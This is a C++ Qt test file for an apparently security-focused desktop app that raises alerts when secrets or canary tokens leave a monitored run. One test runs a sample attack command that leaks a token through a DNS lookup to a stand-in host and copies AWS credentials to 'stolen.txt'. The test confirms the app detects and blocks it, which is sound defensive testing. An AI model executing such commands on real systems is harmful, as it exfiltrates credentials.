// Sightings: what must not leave and was seen is told once, in red, with who and where, and never with what it was.
#include <QApplication>
#include <QPushButton>
#include <QSignalSpy>
#include <QTableView>

#include "app/activity/activity_page.h"
#include "app/activity/event_details.h"
#include "app/alerts/alert_bar.h"
#include "app/alerts/alert_feed.h"
#include "app/desktop/tray.h"
#include "app/main_window.h"
#include "tests/app/made_history.h"
#include "tests/app/real_run.h"

using namespace leadglass;
using namespace leadglass::app;

namespace {

constexpr int kLong = 60'000;

audit::Event sighting(const std::string& kind, const std::string& where, bool blocked) {
    audit::Event e;
    e.kind = audit::Kind::Sighting;
    e.run = "01k0madeup0";
    e.time = real::MadeHistory::kBegan;
    e.verdict = blocked ? "deny" : "";
    e.reason = kind;
    e.subject = "POST https://collect.example.net/v1/events";
    e.process = "4711 node (/usr/bin/node) < sh < init";
    e.detail = R"({"where":")" + where + R"(","offset":7,"blocked":)" + (blocked ? "true" : "false") + R"(,"host":"collect.example.net:443:tls","connection":1})";
    return e;
}

struct Watching {
    real::MadeHistory& history;
    Services services;
    RunFeed runs{Services{}};
    AlertFeed feed;
    explicit Watching(real::MadeHistory& h) : history(h), services(with(h)), feed(runs, services) { feed.start(); }
    static Services with(real::MadeHistory& h) {
        auto out = h.services();
        out.state = (h.folder() + "/state").toStdString();
        return out;
    }
    // As if a run had come or gone.
    void nudge() { emit runs.changed(); }
};

} // namespace

class TestAlerts : public QObject {
    Q_OBJECT

private slots:
    void whatWasThereAtTheFirstStartIsNotTold() {
        real::MadeHistory history;
        QVERIFY(history.add({sighting("github-token", "body", false)}));
        Watching first(history);
        QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(history.folder() + "/state/app-alerts.json"), kLong);
        QVERIFY(first.feed.alerts().empty());
    }

    void eachIsToldOnceWithWhoAndWhereAndNeverWhat() {
        real::MadeHistory history;
        QVERIFY(history.add(10));
        Watching w(history);
        QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(history.folder() + "/state/app-alerts.json"), kLong);
        const QSignalSpy raised(&w.feed, &AlertFeed::raised);
        QVERIFY(history.add({sighting("github-token", "body", false)}) && history.add(5));
        w.nudge();
        QTRY_COMPARE_WITH_TIMEOUT(raised.count(), 1, kLong);
        const QString text = words::alert(w.feed.alerts().front());
        for (const char* part : {"node 4711", "github-token", "collect.example.net:443", "went out"}) {
            QVERIFY2(text.contains(QLatin1String(part)), qPrintable(text));
        }
        QVERIFY(words::alertAdvice(w.feed.alerts().front()).contains("revoke"));
        QVERIFY(!words::alert(w.feed.alerts().front(), false).contains("collect")); // on a locked screen
        w.nudge();
        QTest::qWait(400);
        QCOMPARE(raised.count(), 1);
        QCOMPARE(w.feed.count(), 1);
    }

    void whatCameWhileTheAppWasAwayIsToldAndWhatWasSeenIsNot() {
        real::MadeHistory history;
        QVERIFY(history.add(3));
        {
            Watching first(history);
            QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(history.folder() + "/state/app-alerts.json"), kLong);
        }
        QVERIFY(history.add({sighting("canary:1", "body", true), sighting("placeholder", "header", true)}));
        {
            Watching second(history);
            QTRY_COMPARE_WITH_TIMEOUT(second.feed.count(), 2, kLong);
            QCOMPARE(second.feed.alerts().front().kind, std::string("placeholder")); // newest first
            second.feed.seen();
            QCOMPARE(second.feed.count(), 0);
        }
        QVERIFY(history.add({sighting("canary:1", "target", true)}));
        Watching third(history);
        QTRY_COMPARE_WITH_TIMEOUT(third.feed.count(), 1, kLong);
    }

    void nothingIsLookedForWhileNoRunIsLive() {
        real::MadeHistory history;
        QVERIFY(history.add(1));
        Watching w(history);
        QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(history.folder() + "/state/app-alerts.json"), kLong);
        QTest::qWait(200);
        QVERIFY(!w.feed.isWaiting());
    }

    void theWindowHasARedBarUntilItIsPutAway() {
        real::MadeHistory history;
        QVERIFY(history.add(3));
        const auto services = Watching::with(history);
        QuestionFeed questions(services.approvals);
        RunFeed runs{Services{}};
        MainWindow window(questions, runs, services);
        window.show();
        window.alerts().start();
        QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(history.folder() + "/state/app-alerts.json"), kLong);
        QVERIFY(!window.alertBar().isVisible());
        QVERIFY(history.add({sighting("github-token", "header", true)}));
        emit runs.changed();
        QTRY_VERIFY_WITH_TIMEOUT(window.alertBar().isVisible(), kLong);
        QVERIFY2(window.alertBar().text().contains("was stopped"), qPrintable(window.alertBar().text()));
        const QImage image = window.alertBar().grab().toImage();
        const QColor ground = image.pixelColor(image.width() / 2, image.height() - 4);
        QVERIFY2(ground.red() > 150 && ground.green() < 90 && ground.blue() < 90, qPrintable(ground.name()));
        window.alertBar().showButton().click();
        QTRY_VERIFY_WITH_TIMEOUT(window.activity()->isVisible() && window.activity()->model().rowCount() == 1, kLong);
        window.alertBar().seenButton().click();
        QVERIFY(!window.alertBar().isVisible());
    }

    void aRowOfTheHistoryStandsOutInWordsShapeAndWeight() {
        real::MadeHistory history;
        QVERIFY(history.add(20));
        QVERIFY(history.add({sighting("canary:1", "response", false)}));
        ActivityPage page(history.services());
        page.show();
        QTRY_VERIFY_WITH_TIMEOUT(page.model().lineAt(0) != nullptr, kLong);
        const auto at = [&](int row, Column column, int role) { return page.model().index(row, static_cast<int>(column)).data(role); };
        QVERIFY(at(0, Column::Verdict, Qt::DisplayRole).toString().startsWith("alert"));
        QVERIFY(at(0, Column::Why, Qt::DisplayRole).toString().contains("canary"));
        QVERIFY(!at(0, Column::Verdict, Qt::DecorationRole).value<QIcon>().isNull());
        QVERIFY(at(0, Column::Subject, Qt::FontRole).value<QFont>().bold());
        QVERIFY(!at(1, Column::Subject, Qt::FontRole).isValid());
        QVERIFY(at(0, Column::Verdict, Qt::DecorationRole).value<QIcon>().pixmap(16, 16).toImage() !=
                at(1, Column::Verdict, Qt::DecorationRole).value<QIcon>().pixmap(16, 16).toImage());
        page.table().setCurrentIndex(page.model().index(0, 0));
        QTRY_VERIFY_WITH_TIMEOUT(page.details().text().contains("What to do"), kLong);
    }

    void aCanaryThatARealRunLetsOutIsAnAlertAndARow() {
        real::Home home;
        const QString profiles = QString::fromStdString(home.places().config) + "/profiles";
        QDir().mkpath(profiles);
        QFile profile(profiles + "/trial.toml");
        QVERIFY(profile.open(QIODevice::WriteOnly));
        profile.write("schema = 1\nname = \"trial\"\nextends = \"base\"\n[output]\ncanaries = true\n");
        profile.close();
        for (const QString& path : {QFileInfo(profiles).path(), profiles}) {
            QFile::setPermissions(path, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
        }
        profile.setPermissions(QFile::ReadOwner | QFile::WriteOwner);
        const auto services = home.services();
        RunFeed runs{Services{}};
        AlertFeed feed(runs, services);
        feed.start();
        QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(QString::fromStdString(services.state) + "/app-alerts.json"), kLong);
        real::Run run(home, "/usr/bin/getent hosts \"$BACKUP_ACCESS_TOKEN.collect.example\"; cp ~/.aws/credentials stolen.txt", {"--profile", "trial"});
        QVERIFY(run.ends());
        QVERIFY2(run.output().contains("was seen in the name *.collect.example"), run.output().constData());
        emit runs.changed();
        QTRY_VERIFY_WITH_TIMEOUT(feed.count() >= 2, kLong);
        QString all;
        for (const Alert& one : feed.alerts()) {
            all += words::alert(one) + QLatin1Char('\n');
        }
        for (const char* part : {"getent", "a canary of this run", "in the name of a host", "*.collect.example", "stopped", "stolen.txt", "held back"}) {
            QVERIFY2(all.contains(QLatin1String(part)), qPrintable(all));
        }
        QVERIFY2(!all.contains("glpat-"), qPrintable(all));
        ActivityPage page(services);
        page.show();
        QTRY_VERIFY_WITH_TIMEOUT(page.model().rowCount() > 0 && page.model().lineAt(0) != nullptr, kLong);
        const auto rowWith = [&](const QString& words) {
            for (int row = 0; row < page.model().rowCount(); ++row) {
                if (page.model().index(row, static_cast<int>(Column::Why)).data().toString().contains(words)) {
                    return row;
                }
            }
            return -1;
        };
        QTRY_VERIFY_WITH_TIMEOUT(rowWith("in the name of a host") >= 0, kLong);
        QVERIFY(page.model().index(rowWith("in the name of a host"), static_cast<int>(Column::Process)).data().toString().contains("getent"));
    }

    void theTraySaysSoBeforeAnythingElse() {
        Tray tray;
        tray.setState({2, 1, {}, QStringLiteral("a problem"), 3});
        QVERIFY2(tray.menu().actions().front()->text().contains("must not leave"), qPrintable(tray.menu().actions().front()->text()));
        tray.setState({2, 1, {}, {}, 0});
        QVERIFY(!tray.menu().actions().front()->text().contains("must not leave"));
    }

    void aRowThatIsNotOursSaysNothingFalse() {
        auto row = sighting("x\x1b[31m", "nowhere", false);
        row.detail = "[not json";
        row.process.clear();
        const Alert alert = alertOf(1, row);
        const QString text = words::alert(alert);
        QVERIFY(!text.contains(QChar(0x1b)));
        QVERIFY2(text.contains("on a connection") && text.contains("collect.example.net"), qPrintable(text));
    }
};

QTEST_MAIN(TestAlerts)
#include "tst_alerts.moc"
